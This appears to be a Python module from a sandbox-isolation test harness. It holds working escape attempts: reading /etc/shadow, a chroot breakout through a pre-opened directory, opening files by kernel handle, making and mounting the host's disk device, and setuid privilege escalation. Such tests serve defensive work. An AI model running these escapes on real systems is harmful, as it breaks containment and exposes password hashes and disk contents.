"""Attacks on the host's files, disks and kernel files."""

import contextlib
import hashlib
import shutil
import stat
import struct
import tempfile


def first_that_works(attempts):
    """Tries each; gives back the first result, else raises the last error."""
    error = Absent("nothing to try")
    for attempt in attempts:
        try:
            return attempt()
        except (OSError, Held) as refused:
            error = refused
    raise error


def open_and_close(path, flags):
    """Opens a path and lets it go."""
    os.close(os.open(path, flags | os.O_NONBLOCK | os.O_NOCTTY))
    return path


@attack
def read_secret(facts, _):
    """Reads a file of the host's by its path."""
    with open(facts["secret"]) as file:
        if file.read() == facts["token"]:
            return "read it"
    raise Held("another file")


@attack
def read_shadow(facts, _):
    """Reads the host's password hashes."""
    with open("/etc/shadow", "rb") as file:
        if hashlib.sha256(file.read()).hexdigest() == facts["shadow_sha256"]:
            return "read it"
    raise Held("another file")


@attack
def list_homes(facts, folder):
    """Finds the file that the test put into a home of the host's."""
    if facts["token"] in os.listdir(folder):
        return "found it"
    raise Held("nothing of the host's")


@attack
def find_secret(facts, _):
    """Looks for the host's file from everything that might be a root."""
    roots = ["/", "/proc/1/root", "/proc/1/cwd", "/proc/self/root", "/proc/self/cwd/" + "../" * 40]
    for root in roots:
        for folder, names, files in os.walk(root):
            if os.path.basename(facts["secret"]) in files:
                return folder
            if folder[len(root) :].count("/") >= 3 or folder in ("/proc", "/sys", "/usr"):
                names.clear()
    raise Held("nothing of the host's")


@attack
def climb_out(facts, _):
    """Leaves a chroot by way of a folder opened before it, up to the outermost root."""
    prison = tempfile.mkdtemp(dir=".")
    outside = os.open(".", os.O_RDONLY)
    try:
        os.chroot(prison)
        os.fchdir(outside)
        for _ in range(60):
            os.chdir("..")
        os.chroot(".")
        return read_secret(facts, "")
    finally:
        os.fchdir(outside)
        os.rmdir(os.path.basename(prison))


def file_handle(path):
    """The kernel's handle of a file, which needs no path to be opened by."""
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    call(by_machine(303, 264), -100, path.encode(), handle, ctypes.byref(mount), 0)
    return handle.raw


@attack
def handle_of(facts, path):
    """Not an attack: the host's preparation of the next one."""
    return file_handle(path).hex()


@attack
def open_by_handle(facts, _):
    """Opens the host's password hashes by handle, on the mount that it shares with /usr."""
    handle = ctypes.create_string_buffer(bytes.fromhex(facts["shadow_handle"]))
    mount = os.open("/usr", os.O_RDONLY)
    file = call(by_machine(304, 265), mount, handle, os.O_RDONLY)
    if hashlib.sha256(os.read(file, 1 << 20)).hexdigest() == facts["shadow_sha256"]:
        return "read it"
    raise Held("another file")


def disk_node(facts):
    """A device node of the host's disk, made here."""
    node = os.path.join(tempfile.mkdtemp(dir="."), "disk")
    os.mknod(node, 0o600 | stat.S_IFBLK, os.makedev(*facts["disk"]))
    return node


@attack
def read_disk(facts, _):
    """Reads the host's disk through a node of one's own."""
    node = disk_node(facts)
    try:
        file = os.open(node, os.O_RDONLY)
        return f"read {len(os.read(file, 4096))} bytes"
    finally:
        shutil.rmtree(os.path.dirname(node))


@attack
def mount_disk(facts, _):
    """Mounts the host's disk."""
    node, kind, target = facts["disk_path"], facts["disk_kind"], tempfile.mkdtemp(dir=".")
    with contextlib.suppress(PermissionError):
        node = disk_node(facts)
    try:
        call(by_machine(165, 40), node.encode(), target.encode(), kind.encode(), 0, None)
        found = os.listdir(target)
        call(by_machine(166, 39), target.encode(), 2)
        return f"{len(found)} names"
    finally:
        os.rmdir(target)
        if node != facts["disk_path"]:
            shutil.rmtree(os.path.dirname(node))


@attack
def open_devices(facts, _):
    """Finds a device node beyond those that any program needs."""
    harmless = [(1, 3), (1, 5), (1, 7), (1, 8), (1, 9), (5, 0), (5, 2)]
    for folder, _, names in os.walk("/dev"):
        for name in names:
            found = os.lstat(os.path.join(folder, name))
            device = (os.major(found.st_rdev), os.minor(found.st_rdev))
            is_node = stat.S_ISCHR(found.st_mode) or stat.S_ISBLK(found.st_mode)
            is_terminal = stat.S_ISCHR(found.st_mode) and 136 <= device[0] <= 143
            if is_node and not is_terminal and device not in harmless:
                return os.path.join(folder, name)
    raise Held("harmless nodes only")


@attack
def write_host_tree(facts, folder):
    """Makes a file in a tree that is the host's own."""
    path = os.path.join(folder, facts["token"])
    os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL))
    os.unlink(path)
    return path


@attack
def gain_by_setuid(facts, _):
    """Becomes root as an ordinary user, by a set-user-id program of root's own making."""
    folder = tempfile.mkdtemp(dir=".")
    try:
        program = os.path.join(os.path.abspath(folder), "id")
        shutil.copy("/usr/bin/id", program)
        os.chmod(folder, 0o755)
        os.chmod(program, 0o4755)
        reader, writer = os.pipe()
        if os.fork() == 0:
            # Where only root's id exists there is nobody to become, and nothing to gain.
            with contextlib.suppress(OSError):
                os.setgroups([])
                os.setresgid(1000, 1000, 1000)
                os.setresuid(1000, 1000, 1000)
                os.dup2(writer, 1)
                os.execv(program, ["id", "-u"])
            os._exit(1)
        os.close(writer)
        if os.read(reader, 16).strip() == b"0":
            return "root again"
        raise Held("no more than before")
    finally:
        shutil.rmtree(folder)


@attack
def read(_, path):
    """Opens a file for reading."""
    return open_and_close(path, os.O_RDONLY)


@attack
def write(_, path):
    """Opens a file for writing."""
    return open_and_close(path, os.O_WRONLY)


@attack
def list_folder(_, path):
    """Sees what is in a folder."""
    found = os.listdir(path)
    if not found:
        raise Held("it is empty")
    return f"{len(found)} names"


@attack
def write_any(_, folder):
    """Looks for one file below a folder that can be opened for writing."""
    for place, names, files in os.walk(folder):
        names[:] = [
            name for name in names if name not in ("debug", "tracing", "self", "thread-self")
        ]
        for name in files:
            with contextlib.suppress(OSError):
                return open_and_close(os.path.join(place, name), os.O_WRONLY)
    raise Held("nothing can be written")


@attack
def scatter(facts, _):
    """Writes a file wherever root can, and says where that was."""
    done = []
    for folder in facts["folders"]:
        with contextlib.suppress(OSError), open(os.path.join(folder, facts["token"]), "w") as file:
            file.write("of a sandbox")
            done.append(folder)
    return json.dumps(done)
